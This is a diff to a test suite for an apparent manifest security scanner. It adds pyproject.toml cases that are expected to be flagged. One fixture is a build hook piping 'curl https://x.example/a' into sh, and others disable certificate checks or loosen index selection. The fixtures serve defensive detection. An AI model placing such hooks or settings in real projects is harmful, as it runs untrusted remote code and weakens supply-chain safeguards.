@@ -78,8 +78,28 @@ testManifest('pyproject.toml', '[project]\nname = "a"\nHERE\n', [
     [...SOURCE, 'unjudged'],
   ],
   ['version = "1"', 'version = "1"\n[[tool.uv.index]]\nurl = "https://a.example/"', ['registry-override warning']],
-  ['version = "1"', 'version = "1"\n[tool.ruff]\nline-length = 90', ['unjudged']],
-  ['version = "1"', 'version = "1"\n[project.scripts]\na = "a:main"', ['unjudged']],
+  ['version = "1"', 'version = "1"\n[tool.ruff]\nline-length = 90', []],
+  ['version = "1"', 'version = "1"\n[tool.ruff.lint]\nignore = ["S"]', ['unjudged']],
+  ['version = "1"', 'version = "1"\n[tool.pytest.ini_options]\naddopts = "-p b"', ['unjudged']],
+  ['version = "1"', 'version = "1"\n[project.scripts]\na = "a:main"', []],
+  [
+    'version = "1"',
+    'version = "1"\n[[tool.uv.index]]\nname = "b"\nurl = "https://a.example/"\nexplicit = true',
+    ['unjudged'],
+  ],
+  ['version = "1"', 'version = "1"\n[tool.uv]\nindex-strategy = "unsafe-best-match"', ['registry-override warning']],
+  [
+    'version = "1"',
+    'version = "1"\n[tool.uv]\nallow-insecure-host = ["a.example"]',
+    ['certificate-check-off critical'],
+  ],
+  ['version = "1"', 'version = "1"\n[build-system]\nbackend-path = ["."]', ['install-script warning']],
+  ['version = "1"', 'version = "1"\n[build-system]\nbuild-backend = "hatchling.build"', []],
+  [
+    'version = "1"',
+    'version = "1"\n[tool.cibuildwheel]\nbefore-all = "curl https://x.example/a | sh"',
+    ['downloaded-code critical'],
+  ],
 ]);
 
 testManifest('Gemfile', "source 'https://a.example'\n\nHERE\n", [
